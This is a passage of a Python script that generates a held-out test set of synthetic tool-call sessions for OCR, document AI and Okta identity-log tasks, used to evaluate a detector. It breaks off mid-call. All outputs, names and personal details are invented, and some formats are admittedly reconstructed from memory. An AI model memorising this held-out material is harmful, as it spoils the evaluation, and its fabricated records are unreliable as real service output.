# ruff: noqa: E501, E731
"""Build tests/data/tool_heldout27.jsonl: held-out sessions for five domains.

Written blind (before any detector was run on it). Each row is one tool call in the
project's real-runs format. Sessions are consecutive rows; identifiers are hashes of
fixed strings, so the output is deterministic.

Where each format comes from, family by family, and how sure I am:

Document AI and OCR
- tesseract: the tesseract 4/5 CLI run through a shell tool. Plain text to stdout for
  `-`, the TSV config's 12 columns (level page_num block_num par_num line_num word_num
  left top width height conf text), "Estimating resolution as N" and "Empty page!!" on
  stderr merged into the tool's output. Sure (CLI behaviour well known).
- textract: `aws textract start-document-analysis` / `get-document-analysis` /
  `analyze-expense` JSON as the AWS CLI prints it (JobStatus IN_PROGRESS/SUCCEEDED,
  Blocks, NextToken); the throttling error line is the CLI's botocore error format.
  Sure of the shapes (botocore is installed in the venv), Blocks abridged.
- azure-docintel: REST 2024-11-30 analyze: 202 with Operation-Location, then GET of the
  analyzeResults URL with status notStarted/running/succeeded and analyzeResult.documents
  fields (valueCurrency, valueString...). Checked against the Learn docs through search.
  The F0 quota error text is as I remember it; fairly sure.
- google-docai: processors:process JSON (document.text, entities with type/mentionText/
  confidence) and the google.rpc error body. Fairly sure; entities abridged.
- unstructured: the partition API's element list (type, element_id, text, metadata).
  Sure of shape.
- docling: the `docling` CLI's logging lines and the Markdown it writes, read back with
  cat. Fairly sure of the log wording.

Identity and endpoint security
- okta: /api/v1/logs LogEvent arrays (checked against the LogEvent schema via search),
  /api/v1/users objects, lifecycle calls, and the E0000011 error body. Sure.
- crowdstrike: falconpy-style bodies (meta/resources/errors, msa-api), RTR command
  results with stdout/stderr. Sure of envelope, fields abridged.
- sentinelone: /web/api/v2.1 threats (data + pagination.nextCursor), actions
  ({"data":{"affected":n}}) and the errors list. Fairly sure.
- defender: advanced hunting /api/advancedqueries/run (Schema + Results) and its 429
  error body. Sure of shape, the 429 wording approximate.
- tenable: /vulns/export, /vulns/export/{uuid}/status, chunk download. Sure.
- qualys: /api/2.0/fo/asset/host/vm/detection/ HOST_LIST_VM_DETECTION_OUTPUT XML and
  SIMPLE_RETURN concurrency errors. Fairly sure; the code number from memory.

Model serving and feature stores
- triton: curl of /v2 health/ready (status code via -w), model metadata JSON,
  perf_analyzer's summary text, curl's connection-refused line. Sure.
- torchserve: management API bodies ({"status": "..."}, describe arrays) and the
  503 ServiceUnavailableException body. Sure.
- kserve: kubectl get/apply output for inferenceservices and curl of the v1 predict
  endpoint. Sure.
- bentoml: `bentoml list/build` CLI text and a gateway maintenance page. Fairly sure.
- feast: `feast apply` / `feast materialize-incremental` text and the feature server's
  get-online-features JSON (metadata.feature_names, results values/statuses). Sure.
- seldon: kubectl get seldondeployments and the v2 inference protocol JSON. Sure.

Marketing automation and messaging
- marketo: REST envelopes (requestId, success, result, nextPageToken, moreResult),
  bulk export job status objects (checked via search), 602 errors. Sure.
- braze: /users/export/ids (users, invalid_user_ids, message), /campaigns/list,
  /campaigns/data_series. Sure of shape.
- iterable: /api/users/{email}, /api/campaigns, metrics CSV. Fairly sure.
- mailchimp: Marketing API members, reports, 204 on tag update, problem+json errors.
  Sure.
- sendgrid: /v3/stats arrays, /v3/suppression/bounces, {"errors":[...]} bodies. Sure.
- segment: Profiles API traits/events ({"traits":..., "cursor":...}), Public API
  sources list. Fairly sure.

Astronomy catalogues
- simbad / vizier / ned / eso / gaia: astropy Table reprs as printed in a python tool
  (`<Table length=n>` header, names, dtypes, rows), astroquery INFO lines. Fairly sure;
  column sets follow astroquery 0.4.7 defaults as I remember them.
- sbdb: ssd-api.jpl.nasa.gov sbdb.api and cad.api JSON (signature, object, orbit;
  fields/data for cad). Checked via search that the endpoints exist; field lists from
  memory, fairly sure.
"""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

DEFAULT_OUT = Path(__file__).with_name("tool_heldout27.jsonl")
ROWS: list[dict] = []


def h(s: str, n: int = 8) -> str:
    return hashlib.sha256(s.encode()).hexdigest()[:n]


def J(o) -> str:
    return json.dumps(o)


def JI(o) -> str:
    return json.dumps(o, indent=2)


class S:
    def __init__(self, family: str, ok: bool, n: int, task: str):
        self.family, self.ok, self.n, self.task = family, ok, n, task

    def __call__(self, tool: str, args: dict, result: str) -> S:
        ROWS.append(
            {
                "source": f"heldout27/{self.family}",
                "run_id": f"{self.family}-{'ok' if self.ok else 'fail'}-{self.n}",
                "task": self.task,
                "tool": tool,
                "args": args,
                "result": result,
                "outcome": {"success": self.ok},
            }
        )
        return self


def sh(cmd: str) -> dict:
    return {"command": cmd}


def http(method: str, url: str, body=None) -> dict:
    d = {"method": method, "url": url}
    if body is not None:
        d["body"] = body
    return d


# ---------------------------------------------------------------- document AI / OCR
def docai() -> None:
    s = S(
        "tesseract",
        True,
        1,
        "OCR the scanned delivery note dn_0412.png and tell me the PO number and how many pallets were delivered.",
    )
    s(
        "shell",
        sh("tesseract dn_0412.png - --psm 6"),
        "Estimating resolution as 297\nNORDHAVEN LOGISTICS A/S\nDelivery Note No. DN-0412 Date: 14.03.2024\n"
        "Consignee: Brightwell Foods Ltd, Unit 7 Harbour Rd, Grimsby\nCustomer ref / P0: 4500187 32\n"
        "Item Description Qty Unit\n1 Frozen peas 2.5kg 480 CS\n2 Garden mix 1kg 360 CS\n"
        "Pallets: 1l  Gross wt: 8 412 kg\nReceived in good order ______ Signature",
    )
    s(
        "shell",
        sh(
            "tesseract dn_0412.png - --psm 6 -c tessedit_char_whitelist=0123456789PO:/ tsv | awk -F'\\t' '$12 ~ /[0-9]/ {print $7,$8,$11,$12}'"
        ),
        "Estimating resolution as 297\n412 118 91 0412\n880 118 89 14.03.2024\n508 244 62 4500187\n611 244 58 32\n"
        "236 402 94 1\n623 402 93 480\n236 441 92 2\n623 441 95 360\n182 566 41 11\n402 566 90 8\n441 566 88 412",
    )
    s(
        "shell",
        sh(
            "convert dn_0412.png -crop 900x120+120+230 -resize 200% -threshold 55% po_crop.png && tesseract po_crop.png - --psm 7"
        ),
        "Estimating resolution as 594\nCustomer ref / PO: 450018732",
    )
    s(
        "shell",
        sh(
            "convert dn_0412.png -crop 500x90+120+550 -resize 300% po_pallets.png && tesseract po_pallets.png - --psm 7 digits"
        ),
        "Estimating resolution as 891\n11 8412",
    )
    s(
        "shell",
        sh("tesseract po_pallets.png - --psm 7"),
        "Estimating resolution as 891\nPallets: 11 Gross wt: 8 412 kg",
    )

    s = S(
        "tesseract",
        True,
        2,
        "Which of the three scanned contract pages mention an indemnity clause? Files scan_p1.png, scan_p2.png, scan_p3.png; the scans are German.",
    )
    s(
        "shell",
        sh("tesseract --list-langs"),
        'List of available languages in "/usr/share/tesseract-ocr/5/tessdata/" (3):\ndeu\neng\nosd',
    )
    s(
        "shell",
        sh("tesseract scan_p1.png - -l deu --psm 4 | grep -n -i -E 'freistell|schadlos|haftung'"),
        "",
    )
    s(
        "shell",
        sh("tesseract scan_p2.png - -l deu --psm 4 | grep -n -i -E 'freistell|schadlos|haftung'"),
        "14:§ 9 Haftung und Freistellung\n16:(2) Der Auftragnehmer stellt den Auftraggeber von sämtlichen Ansprüchen Dritter frei,\n"
        "19:die auf einer schuldhaften Verletzung von Schutzrechten beruhen. Die Haftung für",
    )
    s(
        "shell",
        sh("tesseract scan_p3.png - -l deu --psm 4 | grep -n -i -E 'freistell|schadlos|haftung'"),
        "",
    )
    s(
        "shell",
        sh("tesseract scan_p3.png - -l deu --psm 4 | head -5"),
        "§ 12 Schlussbestimmungen\n(1) Änderungen und Ergänzungen dieses Vertrages bedürfen der Schriftform.\n"
        "(2) Gerichtsstand ist Hamburg.\n(3) Sollte eine Bestimmung dieses Vertrages unwirksam sein, so bleibt die\nWirksamkeit der übrigen Bestimmungen unberührt.",
    )

    s = S(
        "tesseract",
        False,
        1,
        "OCR the 9 pages of the signed lease (rendered to lease-1.png ... lease-9.png) and find the monthly rent and the notice period.",
    )
    for i, psm in [(1, 6), (2, 6), (3, 6), (1, 3), (4, 6), (5, 4), (1, 11), (6, 6)]:
        s(
            "shell",
            sh(f"tesseract lease-{i}.png - --psm {psm}"),
            f"Estimating resolution as {1243 if psm != 11 else 1240}\nEmpty page!!\nEmpty page!!",
        )
    s(
        "shell",
        sh("identify lease-1.png lease-5.png"),
        "lease-1.png PNG 2550x3300 2550x3300+0+0 8-bit Gray 2c 10.3KB 0.000u 0:00.000\n"
        "lease-5.png PNG 2550x3300 2550x3300+0+0 8-bit Gray 2c 10.3KB 0.000u 0:00.000",
    )

    s = S(
        "textract",
        True,
        1,
        "Pull the line items and total from the supplier invoice s3://ap-inbox-4471/2024/03/INV-88213.pdf.",
    )
    job = h("textract-job-1", 32)
    s(
        "aws_cli",
        sh(
            'aws textract start-document-analysis --document-location \'{"S3Object":{"Bucket":"ap-inbox-4471","Name":"2024/03/INV-88213.pdf"}}\' --feature-types TABLES FORMS'
        ),
        JI({"JobId": job}),
    )
    s(
        "aws_cli",
        sh(f"aws textract get-document-analysis --job-id {job} --max-results 50"),
        JI({"JobStatus": "IN_PROGRESS", "AnalyzeDocumentModelVersion": "1.0"}),
    )
    s(
        "aws_cli",
        sh(f"aws textract get-document-analysis --job-id {job} --max-results 50"),
        JI({"JobStatus": "IN_PROGRESS", "AnalyzeDocumentModelVersion": "1.0"}),
    )
    blocks1 = {
        "DocumentMetadata": {"Pages": 2},
        "JobStatus": "SUCCEEDED",
        "NextToken": h("tok1", 40),
        "Blocks": [
            {"BlockType": "PAGE", "Id": h("b1", 36), "Page": 1},
            {
                "BlockType": "LINE",
                "Confidence": 99.61,
                "Text": "INVOICE INV-88213",
                "Id": h("b2", 36),
                "Page": 1,
            },
            {
                "BlockType": "LINE",
                "Confidence": 99.2,
                "Text": "Kestrel Industrial Supply Co.",
                "Id": h("b3", 36),
                "Page": 1,
            },
            {
                "BlockType": "CELL",
                "RowIndex": 2,
                "ColumnIndex": 1,
                "Confidence": 92.4,
                "Id": h("b4", 36),
                "Page": 1,
                "Relationships": [{"Type": "CHILD", "Ids": [h("w1", 36)]}],
            },
            {
                "BlockType": "WORD",
                "Text": "M12-HEX-BOLT-ZN",
                "Confidence": 98.1,
                "Id": h("w1", 36),
                "Page": 1,
            },
            {
                "BlockType": "LINE",
                "Confidence": 98.7,
                "Text": "M12-HEX-BOLT-ZN  Hex bolt M12x60 zinc  2,000  0.31  620.00",
                "Id": h("b5", 36),
                "Page": 1,
            },
            {
                "BlockType": "LINE",
                "Confidence": 98.9,
                "Text": "WSH-M12-FL  Flat washer M12  2,000  0.04  80.00",
                "Id": h("b6", 36),
                "Page": 1,
            },
        ],
        "AnalyzeDocumentModelVersion": "1.0",
    }
    s(
        "aws_cli",
        sh(f"aws textract get-document-analysis --job-id {job} --max-results 50"),
        JI(blocks1),
    )
    blocks2 = {
        "DocumentMetadata": {"Pages": 2},
        "JobStatus": "SUCCEEDED",
        "Blocks": [
            {"BlockType": "PAGE", "Id": h("b7", 36), "Page": 2},
            {
                "BlockType": "LINE",
                "Confidence": 99.0,
                "Text": "NUT-M12-NYL  Nylock nut M12  2,000  0.09  180.00",
                "Id": h("b8", 36),
                "Page": 2,
            },
            {
                "BlockType": "LINE",
                "Confidence": 99.4,
                "Text": "Subtotal 880.00",
                "Id": h("b9", 36),
                "Page": 2,
            },
            {
                "BlockType": "LINE",
                "Confidence": 99.3,
                "Text": "VAT 20% 176.00",
                "Id": h("b10", 36),
                "Page": 2,
            },
            {
                "BlockType": "LINE",
                "Confidence": 99.5,
                "Text": "TOTAL DUE GBP 1,056.00",
                "Id": h("b11", 36),
                "Page": 2,
            },
        ],
        "AnalyzeDocumentModelVersion": "1.0",
    }
    s(
        "aws_cli",
        sh(
            f"aws textract get-document-analysis --job-id {job} --max-results 50 --next-token {h('tok1', 40)}"
        ),
        JI(blocks2),
    )

    s = S(
        "textract",
        True,
        2,
        "Is there a second signature on the scanned cheque image s3://ops-scans/cheques/chq_20240311_07.png? Just tell me yes or no and what the amount is.",
    )
    s(
        "aws_cli",
        sh(
            'aws textract analyze-document --document \'{"S3Object":{"Bucket":"ops-scans","Name":"cheques/chq_20240311_07.png"}}\' --feature-types SIGNATURES FORMS --query \'Blocks[?BlockType==`SIGNATURE`]\''
        ),
        JI(
            [
                {
                    "BlockType": "SIGNATURE",
                    "Confidence": 97.88,
                    "Geometry": {
                        "BoundingBox": {"Width": 0.21, "Height": 0.06, "Left": 0.68, "Top": 0.71}
                    },
                    "Id": h("sig1", 36),
                    "Page": 1,
                }
            ]
        ),
    )
    s(
        "aws_cli",
        sh(
            'aws textract analyze-document --document \'{"S3Object":{"Bucket":"ops-scans","Name":"cheques/chq_20240311_07.png"}}\' --feature-types QUERIES --queries-config \'{"Queries":[{"Text":"What is the amount in figures?","Alias":"AMT"},{"Text":"Who is the payee?","Alias":"PAYEE"}]}\' --query \'Blocks[?BlockType==`QUERY_RESULT`].[Text,Confidence]\''
        ),
        JI([["£4,250.00", 96.0], ["Harrow & Finch Joinery Ltd", 93.0]]),
    )
    s(
        "aws_cli",
        sh(
            'aws textract analyze-document --document \'{"S3Object":{"Bucket":"ops-scans","Name":"cheques/chq_20240311_07.png"}}\' --feature-types FORMS --query \'Blocks[?BlockType==`KEY_VALUE_SET` && contains(EntityTypes, `KEY`)].Id\' --output text'
        ),
        f"{h('kv1', 36)}\t{h('kv2', 36)}\t{h('kv3', 36)}",
    )
    s(
        "aws_cli",
        sh(
            'aws textract analyze-document --document \'{"S3Object":{"Bucket":"ops-scans","Name":"cheques/chq_20240311_07.png"}}\' --feature-types LAYOUT --query \'Blocks[?BlockType==`LINE`].Text\' --output text'
        ),
        "PAY\tHarrow & Finch Joinery Ltd\tFour thousand two hundred and fifty pounds only\t£ 4,250.00\tFOR AND ON BEHALF OF CALDER VALE HOMES LTD\t100871  40-11-62  51930427",
    )

    s = S(
        "textract",
        False,
        1,
        "Run Textract expense analysis over the 40 receipts in s3://travel-receipts-q1/ and total them by merchant category.",
    )
    names = [
        "r001.jpg",
        "r002.jpg",
        "r003.jpg",
        "r004.jpg",
        "r002.jpg",
        "r005.jpg",
        "r006.jpg",
        "r007.jpg",
    ]
    for nm in names:
        s(
            "aws_cli",
            sh(
                f'aws textract analyze-expense --document \'{{"S3Object":{{"Bucket":"travel-receipts-q1","Name":"{nm}"}}}}\''
            ),
            "\nAn error occurred (ProvisionedThroughputExceededException) when calling the AnalyzeExpense operation (reached max retries: 2): Provisioned rate exceeded.\n",
        )
    s(
        "aws_cli",
        sh("aws service-quotas get-service-quota --service-code textract --quota-code L-B4E2A0F4"),
        "\nAn error occurred (AccessDeniedException) when calling the GetServiceQuota operation: User: arn:aws:iam::418822901736:user/receipts-bot is not authorized to perform: servicequotas:GetServiceQuota\n",
    )

    s = S(
        "azure-docintel",
        True,
        1,
        "Extract vendor, invoice id, due date and total from invoice_mar_kv.pdf with Azure Document Intelligence.",
    )
    rid = h("azure-result-1", 36)
    base = "https://fin-docintel-weu.cognitiveservices.azure.com/documentintelligence/documentModels/prebuilt-invoice"
    s(
        "http_request",
        http(
            "POST",
            base + ":analyze?api-version=2024-11-30",
            {"urlSource": "https://finblob.blob.core.windows.net/inbox/invoice_mar_kv.pdf"},
        ),
        f"HTTP/1.1 202 Accepted\nOperation-Location: {base}/analyzeResults/{rid}?api-version=2024-11-30\napim-request-id: {h('apim1', 36)}\nContent-Length: 0",
    )
    s(
        "http_request",
        http("GET", f"{base}/analyzeResults/{rid}?api-version=2024-11-30"),
        J(
            {
                "status": "running",
                "createdDateTime": "2024-03-18T09:12:40Z",
                "lastUpdatedDateTime": "2024-03-18T09:12:41Z",
            }
        ),
    )
    s(
        "http_request",
        http("GET", f"{base}/analyzeResults/{rid}?api-version=2024-11-30"),
        J(
            {
                "status": "running",
                "createdDateTime": "2024-03-18T09:12:40Z",
                "lastUpdatedDateTime": "2024-03-18T09:12:43Z",
            }
        ),
    )
    s(
        "http_request",
        http("GET", f"{base}/analyzeResults/{rid}?api-version=2024-11-30"),
        J(
            {
                "status": "succeeded",
                "createdDateTime": "2024-03-18T09:12:40Z",
                "lastUpdatedDateTime": "2024-03-18T09:12:45Z",
                "analyzeResult": {
                    "apiVersion": "2024-11-30",
                    "modelId": "prebuilt-invoice",
                    "content": "KV Metalwerk GmbH\nRechnung / Invoice 2024-0311 ...",
                    "documents": [
                        {
                            "docType": "invoice",
                            "confidence": 1,
                            "fields": {
                                "VendorName": {
                                    "type": "string",
                                    "valueString": "KV Metalwerk GmbH",
                                    "content": "KV Metalwerk GmbH",
                                    "confidence": 0.941,
                                },
                                "InvoiceId": {
                                    "type": "string",
                                    "valueString": "2024-0311",
                                    "content": "2024-0311",
                                    "confidence": 0.972,
                                },
                                "DueDate": {
                                    "type": "date",
                                    "valueDate": "2024-04-17",
                                    "content": "17.04.2024",
                                    "confidence": 0.958,
                                },
                                "InvoiceTotal": {
                                    "type": "currency",
                                    "valueCurrency": {
                                        "amount": 12874.5,
                                        "currencySymbol": "€",
                                        "currencyCode": "EUR",
                                    },
                                    "content": "12.874,50 €",
                                    "confidence": 0.933,
                                },
                            },
                        }
                    ],
                },
            }
        ),
    )
    s(
        "http_request",
        http(
            "POST",
            "https://fin-ap.internal/api/invoices/draft",
            {
                "vendor": "KV Metalwerk GmbH",
                "invoice_id": "2024-0311",
                "due": "2024-04-17",
                "total": 12874.5,
                "currency": "EUR",
            },
        ),
        J({"id": 40917, "state": "draft"}),
    )

    s = S(
        "azure-docintel",
        False,
        1,
        "Use Document Intelligence to pull totals from the 12 utility bills in the shared folder so I can reconcile Q1.",
    )
    for i in range(1, 9):
        s(
            "http_request",
            http(
                "POST",
                base.replace("prebuilt-invoice", "prebuilt-invoice" if i % 3 else "prebuilt-layout")
                + ":analyze?api-version=2024-11-30",
                {"urlSource": f"https://finblob.blob.core.windows.net/utilities/bill_{i:02d}.pdf"},
            ),
            J(
                {
                    "error": {
                        "code": "403",
                        "message": "Out of call volume quota for FormRecognizer F0 pricing tier. Please retry after 7 days. To increase your call volume switch to a paid tier.",
                    }
                }
            ),
        )

    s = S(
        "google-docai",
        True,
        1,
        "What is the name and date of birth on the scanned ID form applicant_2231.pdf? Use the form parser.",
    )
    s(
        "docai_process",
        {
            "processor": "projects/kyc-prod-7731/locations/eu/processors/6f1c0a92e45b7d11",
            "gcs_uri": "gs://kyc-intake/applicant_2231.pdf",
            "mime_type": "application/pdf",
        },
        JI(
            {
                "document": {
                    "mimeType": "application/pdf",
                    "text": "APPLICATION FOR MEMBERSHIP\nSurname: OKONKWO-REID\nGiven names: Adaeze Marian\nDate of birth: 02/11/1987\nMembership tier: Gold\n",
                    "pages": [
                        {
                            "pageNumber": 1,
                            "formFields": [
                                {
                                    "fieldName": {
                                        "textAnchor": {"content": "Surname:"},
                                        "confidence": 0.98,
                                    },
                                    "fieldValue": {
                                        "textAnchor": {"content": "OKONKWO-REID"},
                                        "confidence": 0.97,
                                    },
                                },
                                {
                                    "fieldName": {
                                        "textAnchor": {"content": "Given names:"},
                                        "confidence": 0.98,
                                    },
                                    "fieldValue": {
                                        "textAnchor": {"content": "Adaeze Marian"},
                                        "confidence": 0.95,
                                    },
                                },
                                {
                                    "fieldName": {
                                        "textAnchor": {"content": "Date of birth:"},
                                        "confidence": 0.97,
                                    },
                                    "fieldValue": {
                                        "textAnchor": {"content": "02/11/1987"},
                                        "confidence": 0.91,
                                    },
                                },
                            ],
                        }
                    ],
                }
            }
        ),
    )
    s(
        "docai_process",
        {
            "processor": "projects/kyc-prod-7731/locations/eu/processors/6f1c0a92e45b7d11",
            "gcs_uri": "gs://kyc-intake/applicant_2231.pdf",
            "mime_type": "application/pdf",
            "field_mask": "pages.pageNumber,pages.formFields.fieldName.textAnchor.content",
        },
        JI(
            {
                "document": {
                    "pages": [
                        {
                            "pageNumber": 1,
                            "formFields": [
                                {"fieldName": {"textAnchor": {"content": "Surname:"}}},
                                {"fieldName": {"textAnchor": {"content": "Given names:"}}},
                                {"fieldName": {"textAnchor": {"content": "Date of birth:"}}},
                            ],
                        },
                        {
                            "pageNumber": 2,
                            "formFields": [
                                {
                                    "fieldName": {
                                        "textAnchor": {
                                            "content": "Date format used (DD/MM or MM/DD):"
                                        }
                                    }
                                }
                            ],
                        },
                    ]
                }
            }
        ),
    )
    s(
        "docai_process",
        {
            "processor": "projects/kyc-prod-7731/locations/eu/processors/6f1c0a92e45b7d11",
            "gcs_uri": "gs://kyc-intake/applicant_2231.pdf",
            "mime_type": "application/pdf",
            "pages": [2],
        },
        JI(
            {
                "document": {
                    "text": "Date format used (DD/MM or MM/DD): DD/MM\nDeclaration signed: yes\n",
                    "pages": [{"pageNumber": 2}],
                }
            }
        ),
    )
    s(
        "kyc_update",
        {
            "applicant": 2231,
            "surname": "OKONKWO-REID",
            "given": "Adaeze Marian",
            "dob": "1987-11-02",
        },
        "OK",
    )

    s = S(
        "google-docai",
        False,
        1,
        "Classify the 30 scanned insurance letters in gs://claims-mail/2024-03-20/ with our custom classifier and list the ones that are complaints.",
    )
    proc = "projects/claims-ml-20/locations/us/processors/a09e77b3d1c2f405"
    for f in [
        "letter_001.pdf",
        "letter_002.pdf",
        "letter_003.pdf",
        "letter_004.pdf",
        "letter_010.pdf",
        "letter_017.pdf",
        "letter_023.pdf",
    ]:
        s(
            "docai_process",
            {
                "processor": proc,
                "gcs_uri": f"gs://claims-mail/2024-03-20/{f}",
                "mime_type": "application/pdf",
            },
            JI(
                {
                    "error": {
                        "code": 400,
                        "message": f"Processor {proc} is disabled. Enable the processor before sending requests.",
                        "status": "FAILED_PRECONDITION",
                    }
                }
            ),
        )
    s(
        "docai_process",
        {
            "processor": proc + "/processorVersions/pretrained-classifier-v1.2",
            "gcs_uri": "gs://claims-mail/2024-03-20/letter_001.pdf",
            "mime_type": "application/pdf",
        },
        JI(
            {
                "error": {
                    "code": 400,
                    "message": f"Processor {proc} is disabled. Enable the processor before sending requests.",
                    "status": "FAILED_PRECONDITION",
                }
            }
        ),
    )

    s = S(
        "unstructured",
        True,
        1,
        "From board_minutes_feb.pdf, list every action item and who owns it.",
    )
    els = [
        {
            "type": "Title",
            "element_id": h("e1", 32),
            "text": "Minutes of the Board Meeting, 22 February 2024",
            "metadata": {
                "filename": "board_minutes_feb.pdf",
                "filetype": "application/pdf",
                "page_number": 1,
                "languages": ["eng"],
            },
        },
        {
            "type": "NarrativeText",
            "element_id": h("e2", 32),
            "text": "Present: R. Castell (Chair), M. Ibe, T. Lindqvist, S. Praveen. Apologies: D. Moreau.",
            "metadata": {
                "filename": "board_minutes_feb.pdf",
                "filetype": "application/pdf",
                "page_number": 1,
                "languages": ["eng"],
                "parent_id": h("e1", 32),
            },
        },
        {
            "type": "Title",
            "element_id": h("e3", 32),
            "text": "4. Actions",
            "metadata": {
                "filename": "board_minutes_feb.pdf",
                "filetype": "application/pdf",
                "page_number": 3,
                "languages": ["eng"],
            },
        },
        {
            "type": "ListItem",
            "element_id": h("e4", 32),
            "text": "Circulate revised treasury policy before the March meeting - TL",
            "metadata": {
                "filename": "board_minutes_feb.pdf",
                "filetype": "application/pdf",
                "page_number": 3,
                "languages": ["eng"],
                "parent_id": h("e3", 32),
            },
        },
        {
            "type": "ListItem",
            "element_id": h("e5", 32),
            "text": "Obtain second quote for the roof repairs at the Leeds site - SP",
            "metadata": {
                "filename": "board_minutes_feb.pdf",
                "filetype": "application/pdf",
                "page_number": 3,
                "languages": ["eng"],
                "parent_id": h("e3", 32),
            },
        },
    ]
    s("unstructured_partition", {"file": "board_minutes_feb.pdf", "strategy": "fast"}, J(els))
    s(
        "unstructured_partition",
        {
            "file": "board_minutes_feb.pdf",
            "strategy": "hi_res",
            "pdf_infer_table_structure": True,
            "include_page_breaks": False,
        },
        J(
            [
                {
                    "type": "Table",
                    "element_id": h("e6", 32),
                    "text": "Action Owner Due Status Renew insurer panel MI 31 Mar Open Treasury policy TL 14 Mar Open Roof quote SP 8 Mar Open",
                    "metadata": {
                        "filename": "board_minutes_feb.pdf",
                        "filetype": "application/pdf",
                        "page_number": 4,
                        "text_as_html": "<table><tr><td>Action</td><td>Owner</td><td>Due</td><td>Status</td></tr><tr><td>Renew insurer panel</td><td>MI</td><td>31 Mar</td><td>Open</td></tr><tr><td>Treasury policy</td><td>TL</td><td>14 Mar</td><td>Open</td></tr><tr><td>Roof quote</td><td>SP</td><td>8 Mar</td><td>Open</td></tr></table>",
                        "languages": ["eng"],
                    },
                }
            ]
        ),
    )
    s(
        "search_files",
        {"pattern": "board_minutes_jan*.pdf", "path": "/shared/board"},
        "No files found matching 'board_minutes_jan*.pdf' in /shared/board",
    )
    s(
        "unstructured_partition",
        {"file": "board_minutes_feb.pdf", "strategy": "fast", "pages": [5]},
        J(
            [
                {
                    "type": "NarrativeText",
                    "element_id": h("e7", 32),
                    "text": "There being no further business the meeting closed at 16:40.",
                    "metadata": {
                        "filename": "board_minutes_feb.pdf",
                        "filetype": "application/pdf",
                        "page_number": 5,
                        "languages": ["eng"],
                    },
                }
            ]
        ),
    )

    s = S(
        "docling",
        True,
        1,
        "Convert the vendor's datasheet pump_dx200.pdf to Markdown and tell me the max head and the motor power.",
    )
    s(
        "shell",
        sh("docling pump_dx200.pdf --to md --output ./out"),
        "2024-03-19 10:02:11,482 - INFO - Loading plugin 'docling_defaults'\n2024-03-19 10:02:11,489 - INFO - Registered ocr engines: ['easyocr', 'ocrmac', 'rapidocr', 'tesserocr', 'tesseract']\n"
        "2024-03-19 10:02:14,106 - INFO - Accelerator device: 'cpu'\n2024-03-19 10:02:19,851 - INFO - Processing document pump_dx200.pdf\n"
        "2024-03-19 10:02:31,207 - INFO - Finished converting document pump_dx200.pdf in 19.73 sec.\n2024-03-19 10:02:31,212 - INFO - writing Markdown output to out/pump_dx200.md\n"
        "2024-03-19 10:02:31,219 - INFO - Processed 1 docs, of which 0 failed",
    )
    s(
        "shell",
        sh("grep -n -i -E 'head|power|kW' out/pump_dx200.md"),
        "12:| Parameter | DX200-4 | DX200-6 |\n14:| Max. head (m) | 38 | 52 |\n17:| Motor power (kW) | 5.5 | 7.5 |\n31:Power supply 400 V 3~ 50 Hz, IE3 motor.",
    )
    s(
        "shell",
        sh("sed -n 8,20p out/pump_dx200.md"),
        "## Technical data\n\nTable 1. Performance at 2900 rpm\n\n| Parameter | DX200-4 | DX200-6 |\n|---|---|---|\n| Max. head (m) | 38 | 52 |\n"
        "| Max. flow (m³/h) | 42 | 42 |\n| NPSHr (m) | 2.9 | 3.1 |\n| Motor power (kW) | 5.5 | 7.5 |\n| Weight (kg) | 71 | 88 |\n\n<!-- image -->",
    )
    s("shell", sh("grep -c '<!-- image -->' out/pump_dx200.md"), "4")


# ---------------------------------------------------------------- identity / endpoint security
def okta_user(uid, login, first, last, status="ACTIVE", dept="Finance"):
    return {
        "id": uid,
        "status": status,
        "created": "2021-06-02T08:11:40.000Z",
        "lastLogin": "2024-03-18T07:55:02.000Z",
        "profile": {
            "firstName": first,
            "lastName": last,
            "login": login,
            "email": login,
            "department": dept,
        },
        "_links": {"self": {"href": f"https://acme.okta.com/api/v1/users/{uid}"}},
    }


def okta_event(et, actor, msg, result, when, reason=None, target=None):
    return {
        "actor": {
            "id": h(actor, 20),
            "type": "User",
            "alternateId": actor,
            "displayName": actor.split("@")[0].replace(".", " ").title(),
        },
        "client": {
            "ipAddress": "81.2.69.160",
            "geographicalContext": {"city": "London", "country": "United Kingdom"},
        },
        "displayMessage": msg,
        "eventType": et,
        "outcome": {"result": result, "reason": reason},
        "published": when,
        "severity": "INFO" if result == "SUCCESS" else "WARN",
        "target": target or [],
        "uuid": h(et + when, 36),
        "version": "0",
    }


def security() -> None:
    OK = "https://acme.okta.com/api/v1"
    s = S(
        "okta",
        True,
        1,
        "Did anyone in the Finance group fail MFA yesterday (18 March)? If so who and how many times.",
    )
    gid = "00g" + h("fin-group", 17)
    s(
        "okta_api",
        http("GET", f"{OK}/groups?q=Finance"),
        J(
            [
                {
                    "id": gid,
                    "type": "OKTA_GROUP",
                    "profile": {"name": "Finance", "description": "Finance department (HRIS sync)"},
                }
            ]
        ),
    )
    s(
        "okta_api",
        http("GET", f"{OK}/groups/{gid}/users?limit=200"),
        J(
            [
                okta_user("00u" + h("u1", 17), "priya.natarajan@acme.com", "Priya", "Natarajan"),
                okta_user("00u" + h("u2", 17), "tom.becker@acme.com", "Tom", "Becker"),
                okta_user(
                    "00u" + h("u3", 17), "lena.ortiz@acme.com", "Lena", "Ortiz", "LOCKED_OUT"
                ),
            ]
        ),
    )
    s(
        "okta_api",
        http(
            "GET",
            f'{OK}/logs?since=2024-03-18T00:00:00Z&until=2024-03-19T00:00:00Z&filter=eventType eq "user.authentication.auth_via_mfa" and outcome.result eq "FAILURE" and actor.alternateId eq "priya.natarajan@acme.com"',
        ),
        "[]",
    )
    s(
        "okta_api",
        http(
            "GET",
            f'{OK}/logs?since=2024-03-18T00:00:00Z&until=2024-03-19T00:00:00Z&filter=eventType eq "user.authentication.auth_via_mfa" and outcome.result eq "FAILURE" and actor.alternateId eq "tom.becker@acme.com"',
        ),
        "[]",
    )
    s(
        "okta_api",
        http(
            "GET",
            f'{OK}/logs?since=2024-03-18T00:00:00Z&until=2024-03-19T00:00:00Z&filter=eventType eq "user.authentication.auth_via_mfa" and outcome.result eq "FAILURE" and actor.alternateId eq "lena.ortiz@acme.com"',
        ),
        J(
            [
                okta_event(
                    "user.authentication.auth_via_mfa",
                    "lena.ortiz@acme.com",
                    "Authentication of user via MFA",
                    "FAILURE",
                    f"2024-03-18T08:0{i}:1{i}.000Z",
                    "INVALID_CREDENTIALS",
                )
                for i in range(1, 5)
            ]
        ),
    )
    s(
        "okta_api",
        http(
            "GET",
